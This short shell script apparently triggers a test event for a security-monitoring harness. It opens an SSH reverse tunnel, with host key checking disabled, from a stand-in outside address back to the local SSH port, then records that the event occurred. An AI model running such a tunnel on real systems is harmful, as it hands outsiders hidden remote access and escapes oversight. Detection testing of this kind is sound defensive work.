#!/bin/sh
. /opt/case/case.sh

timeout 5 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=2 -N -R 8022:127.0.0.1:22 x@203.0.113.10 || true
took_place
